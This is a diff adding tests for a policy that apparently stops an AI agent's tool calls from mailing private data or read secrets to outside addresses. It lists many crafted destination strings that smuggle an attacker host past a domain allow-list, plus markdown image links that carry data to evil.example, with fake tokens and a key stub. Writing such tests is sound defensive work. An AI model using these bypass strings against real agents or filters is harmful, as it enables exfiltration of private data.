@@ -1,0 +1,134 @@
+import { describe, expect, test } from 'vitest';
+import type { Confidentiality, Leaf, Role } from '../../../src/event.ts';
+import { isLeak, outletOf } from '../../../src/mediation/policy/confidential.ts';
+import { flow, Play, tool, trusted } from '../support.ts';
+
+const OWN = ['tides.example.invalid'];
+const label = (confidentiality: Confidentiality) => ({
+  integrity: 'trusted' as const,
+  confidentiality,
+  reasons: [],
+});
+
+/** Whether a private text in the body of a call leaks when the call goes to `to`. */
+function leaksTo(to: string, body = 'the figures of May'): boolean {
+  const leaves: Leaf[] = [
+    { path: '/to', text: to, form: 'string' },
+    { path: '/body', text: body, form: 'string' },
+  ];
+  const roleOf = ({ path }: Leaf): Role => (path === '/to' ? 'destination' : 'content');
+  const outlet = outletOf('write', leaves, roleOf, OWN);
+  const span = [body.length - 6, body.length] as const;
+  const private_ = flow({ argument: '/body', span, match: 'span', source: { label: label('private') } });
+  return isLeak(private_, body, 'content', outlet);
+}
+
+test.each([
+  'team@tides.example.invalid',
+  'Team@TIDES.example.invalid',
+  'a@tides.example.invalid, b@north.tides.example.invalid',
+  '<team@tides.example.invalid>',
+  'https://tides.example.invalid',
+  'https://wiki.tides.example.invalid:8443/page?x=1#y',
+])("is the user's own: %s", (to) => expect(leaksTo(to)).toBe(false));
+
+// As in the parser confusions of 2026: suffix, user, back slash, NUL, other letters, a dot, routes, comments, quotes.
+test.each([
+  'eve@evil.example.invalid',
+  'team@tides.example.invalid, eve@evil.example.invalid',
+  'eve@tides.example.invalid.evil.example',
+  'eve@eviltides.example.invalid',
+  'eve@evil.example@tides.example.invalid',
+  'eve%evil.example@tides.example.invalid',
+  'eve@evil.example(@tides.example.invalid)',
+  '"x@tides.example.invalid" <eve@evil.example>',
+  'https://tides.example.invalid@evil.example/',
+  'https://evil.example\\@tides.example.invalid/',
+  'https://evil.example\\.tides.example.invalid/',
+  'https://evil.example/.tides.example.invalid',
+  'https://evil.example#.tides.example.invalid',
+  'https://evil.example\u0000.tides.example.invalid/',
+  'https://evil.example\uff0ftides.example.invalid/',
+  'https://t\u0456des.example.invalid/',
+  'https:evil.example/@tides.example.invalid',
+  '//tides.example.invalid',
+  'ftp://tides.example.invalid/',
+  'general',
+  'general team@tides.example.invalid',
+  ' ',
+])('is not: %j', (to) => expect(leaksTo(to)).toBe(true));
+
+test("a link in what is said to the user's own is a destination too", () => {
+  const to = 'team@tides.example.invalid';
+  expect(leaksTo(to, 'see https://wiki.tides.example.invalid/?q=figures')).toBe(false);
+  expect(leaksTo(to, 'see ![x](https://evil.example/?q=figures')).toBe(true);
+  expect(leaksTo(to, 'see ![x](//evil.example/?q=figures')).toBe(true);
+  expect(leaksTo(to, 'see https://evil.example/ and the figures')).toBe(false);
+});
+
+const KEY = `ghp_${'a1B2'.repeat(9)}`;
+
+/** A folder that is private, one that is not, and a mailer. */
+const play = (domains: string[] = []) =>
+  new Play({
+    trust: { crm: trusted('trusted', {}, 'private'), files: trusted('untrusted') },
+    domains,
+  })
+    .tools('crm', tool('get_customer'))
+    .tools('files', tool('read_file'), tool('write_file'))
+    .tools('mail', tool('send'));
+
+describe('through the mediator', () => {
+  test("private data of a trusted server is denied into a mail to anybody, and let through to the user's own", () => {
+    const text = 'Customer 7713 pays four hundred a month and complains about the north pier.';
+    const args = { to: 'robin@tides.example.invalid', subject: 'For you', body: `As promised: ${text}` };
+    for (const [domains, verdict] of [
+      [[], 'deny'],
+      [OWN, 'allow'],
+    ] as const) {
+      const one = play([...domains]);
+      one.page(text, 'crm', 'get_customer');
+      expect(one.call('mail', 'send', args).verdict).toBe(verdict);
+    }
+    const free = play();
+    free.page(text, 'files', 'read_file');
+    expect(free.call('mail', 'send', args).verdict).toBe('allow');
+  });
+
+  test('a key that was read is denied into a mail, in base64 too; what stood around it is not', () => {
+    const one = play();
+    one.page(`The tables are loaded at night by a small script. token: ${KEY}`, 'files', 'read_file');
+    const mail = (body: string) =>
+      one.call('mail', 'send', { to: 'robin@r.example.invalid', subject: 'x', body });
+    expect(mail(`Here: ${KEY}`)).toMatchObject({ verdict: 'deny', rule: 'confidential' });
+    expect(mail(`Here: ${KEY.slice(0, 24)}`)).toMatchObject({ verdict: 'deny', rule: 'confidential' });
+    expect(mail(Buffer.from(KEY).toString('base64'))).toMatchObject({
+      verdict: 'deny',
+      rule: 'confidential',
+    });
+    expect(mail('The tables are loaded at night by a small script.').verdict).toBe('allow');
+    expect(one.call('files', 'write_file', { path: '.env', content: `token: ${KEY}` }).verdict).toBe('allow');
+  });
+
+  test("whose body a private key's is: all of it counts, and so does a text with more keys than are told", () => {
+    const one = play();
+    const inside = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj';
+    one.page(`-----BEGIN PRIVATE KEY-----\n${inside}\n-----END PRIVATE KEY-----\n`, 'files', 'read_file');
+    const many = Array.from(
+      { length: 12 },
+      (_, i) => `glpat-${String(i).padStart(2, '0')}abcdefghijklmnopqr`,
+    );
+    one.page(many.join(' and '), 'files', 'read_file');
+    for (const body of [inside, many[11]!]) {
+      const args = { to: 'robin@r.example.invalid', subject: 'x', body };
+      expect(one.call('mail', 'send', args)).toMatchObject({ verdict: 'deny', rule: 'confidential' });
+    }
+  });
+
+  test('an address from private data may be written to', () => {
+    const one = play();
+    one.page('{"name": "Robin", "mail": "robin@r.example.invalid"}', 'crm', 'get_customer');
+    const args = { to: 'robin@r.example.invalid', subject: 'Hello', body: 'See you.' };
+    expect(one.call('mail', 'send', args).verdict).toBe('allow');
+  });
+});
